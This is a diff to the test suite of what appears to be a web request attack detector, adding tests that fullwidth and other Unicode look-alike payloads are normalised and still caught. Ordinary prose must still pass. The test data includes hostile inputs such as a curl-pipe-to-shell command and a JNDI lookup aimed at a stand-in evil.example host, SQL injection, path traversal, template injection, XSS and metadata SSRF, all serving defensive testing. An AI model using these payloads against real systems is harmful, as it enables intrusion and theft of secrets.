@@ -266,8 +266,8 @@ def test_path_canonical_copies_are_read_by_the_path_and_host_analysers_only(engi
     found = rd.readings(value, "json")
     copy = value.replace("。", ".")
     assert copy in found.forms and found.canonical == frozenset({copy})
-    assert engine._detector_texts("sqli", found.forms, found.canonical) == [value]
-    assert copy in engine._detector_texts("ssrf", found.forms, found.canonical)
+    assert engine._detector_texts("sqli", found) == [value]
+    assert copy in engine._detector_texts("ssrf", found)
     # ... and the path analyser still reads look-alike traversals through them
     assert engine.analyze_value("..／..／..／etc／passwd", "query.f").attacks
     assert engine.analyze_value("http://169。254。169。254/latest/meta-data/", "query.u").attacks
@@ -329,3 +329,87 @@ def test_a_path_tail_needs_an_odd_character_found_by_either_test() -> None:
     for code in range(128):
         path = f"/api/v1/x{chr(code)}y/z"
         assert (rd._path_tail(path) is not None) == (rd._ODD_SEGMENT_RE.search(path) is not None)
+
+
+# ---------------------------------------------------------------------------- compatibility folds
+
+
+def fullwidth(text: str) -> str:
+    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)
+
+
+@pytest.mark.parametrize("payload", [
+    SCRIPT, SQL, "1 UNION SELECT username,password FROM users--", ";cat /etc/passwd", "$(curl evil.example|sh)",
+    "../../../../etc/passwd", "{{config.__class__.__init__.__globals__}}", "${jndi:ldap://evil.example/a}",
+    "http://169.254.169.254/latest/meta-data/",
+])
+def test_fullwidth_payloads_are_read_as_their_fold(engine: Engine, payload: str) -> None:
+    # IIS's best-fit mapping and NFKC-normalising backends read `＜ｓｃｒｉｐｔ＞` as `<script>`
+    assert engine.analyze_value(fullwidth(payload)).attacks
+    assert engine.analyze_value(url(fullwidth(payload))).attacks  # %EF%BC%9C...
+    h = [(b"Host", b"app.example"), (b"Content-Type", b"application/json")]
+    body = json.dumps({"q": fullwidth(payload)}).encode()  # \uff1c...: folded once unescaped
+    assert engine.analyze_request(RequestMessage("POST", "/api", h, body)).attacks
+
+
+def test_mixed_and_mathematical_forms_fold(engine: Engine) -> None:
+    assert engine.analyze_value("<img src=x onerror=alert（1）>").attacks  # only the brackets
+    assert engine.analyze_value("𝐣𝐚𝐯𝐚𝐬𝐜𝐫𝐢𝐩𝐭:alert(1)", "query.url").attacks  # past U+FFFF
+    assert engine.analyze_value("‥/‥/‥/etc/passwd", "query.file").attacks  # two-dot leaders
+
+
+def test_prose_with_fullwidth_punctuation_stays_clean(engine: Engine) -> None:
+    for text in ["域名必须要备案吗？（如：云服务器／轻量应用服务器…）有效时长需大于（含）1个月；请核对。",
+                 "价格：１２０元，数量：３（含税）！", "½ cup of sugar, 2² = 4, µg", "Ｗｉ-Ｆｉ密码：ａｂｃ１２３"]:
+        assert not engine.analyze_value(text, "json.text", "json").attacks, text
+
+
+def test_the_analysers_read_the_fold_in_place_of_the_text(engine: Engine) -> None:
+    value = "x（1）y"
+    found = rd.readings(value, "json")
+    assert found.forms[:2] == [value, "x(1)y"] and found.folded_away == frozenset({value})
+    for detector in ("sqli", "xss", "shell"):
+        assert value not in engine._detector_texts(detector, rd.Readings([value, "1' or 1=1 <script>"], False,
+                                                                         folded_away=frozenset({value})))
+    # the path and host analysers read both: a spelling can be the finding (`①②⑦.⓪.⓪.①`)
+    ssrf = rd.readings("http://①②⑦.⓪.⓪.①/", "query")
+    assert set(engine._detector_texts("ssrf", ssrf)) == {"http://①②⑦.⓪.⓪.①/", "http://127.0.0.1/"}
+
+
+def test_prose_punctuation_between_words_asks_for_no_fold() -> None:
+    assert rd._folded("文（注）释") is None and rd._folded("服务器／轻量，备案") is None
+    assert rd._folded("备案吗？\"") is None and rd._folded(">（如：云") is None  # a quote, a tag bracket
+    assert rd._folded("alert（1）") == "alert(1)" and rd._folded("中；cat") == "中;cat"
+    assert rd._folded("文（注）ａ") == "文(注)a"  # a fullwidth letter asks: the whole text is folded
+    assert rd._folded("（文") == "(文" and rd._folded("文）") == "文)"  # at either end
+    assert rd._folded("½ cup, µg, ª") is None  # Latin-1 makes no syntax
+
+
+def test_the_fold_is_nfkc_of_a_text_that_asks_for_it() -> None:
+    import random
+    import unicodedata
+
+    rng = random.Random(11)
+    pool = [chr(c) for c in range(0x20, 0x3000)] + [chr(c) for c in range(0xFF00, 0xFFF0)] + \
+        [chr(c) for c in range(0x1D400, 0x1D800)] + ["中", "文", "\u0301", "\u0338"]
+    folds = 0
+    for _ in range(3000):
+        text = "".join(rng.choice(pool) for _ in range(rng.randint(1, 12)))
+        folded = rd._folded(text)
+        if folded is not None:
+            folds += 1
+            assert folded == unicodedata.normalize("NFKC", text), repr(text)
+        elif any(c in rd._COMPAT and c not in rd._PROSE_PUNCT for c in text):
+            raise AssertionError(f"{text!r} has a fold that makes ASCII and was not folded")
+    assert folds > 1000
+
+
+def test_a_long_fullwidth_value_folds_in_linear_time(engine: Engine) -> None:
+    import time
+
+    for size in (1 << 10, 1 << 20):
+        text = ("ａ，" * size)[:size]
+        started = time.thread_time()
+        rd._folded.cache_clear()
+        assert rd._folded(text) == ("a," * size)[:size]
+        assert time.thread_time() - started < 0.5
